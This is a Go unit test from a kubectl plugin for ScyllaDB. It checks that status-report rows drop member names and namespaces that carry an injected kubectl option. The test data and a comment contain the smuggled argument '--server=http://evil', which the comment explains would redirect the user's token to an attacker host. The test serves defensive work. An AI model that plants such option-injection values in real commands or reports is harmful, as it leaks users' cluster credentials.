// SPDX-License-Identifier: Apache-2.0

package matrix_test

import (
	"testing"

	"github.com/kubectl-scylla/kubectl-scylla/internal/api"
	"github.com/kubectl-scylla/kubectl-scylla/internal/matrix"
)

// A report may be another cluster's, or a saved file: a pasted "kubectl logs --server=http://evil" would send the user's token there. Its row counts, without a name.
func TestAttack5AReportNamesNoOption(t *testing.T) {
	const option, id = "--server=http://evil", "8ebd0fc0-1111-4111-8111-11111111111a"
	cells := []api.ObservedNodeStatusReport{{HostID: id, Status: api.NodeStatusUp}}
	for where, r := range map[string]*api.ScyllaDBStatusReport{
		"a node": {Datacenters: []api.StatusReportDatacenter{{Name: "dc1", Nodes: []api.StatusReportNode{{HostID: id, Member: option, ObservedNodes: cells}}}}},
		"a member": {
			Datacenters: []api.StatusReportDatacenter{{Name: "dc1", Nodes: []api.StatusReportNode{{HostID: id, ObservedNodes: cells}}}},
			Status:      api.ScyllaDBStatusReportStatus{Members: []api.StatusReportMember{{HostID: id, Name: option, Namespace: option, Joined: true}}},
		},
		"a member without a row": {Status: api.ScyllaDBStatusReportStatus{Members: []api.StatusReportMember{{HostID: id, Name: option, Namespace: option, Joined: true}}}},
	} {
		rows := matrix.FromStatusReport(r)
		if len(rows) != 1 || rows[0].Reporter.HostID != id || rows[0].Reporter.Member != "" || rows[0].Namespace != "" {
			t.Errorf("%s: %+v", where, rows)
		}
	}
}
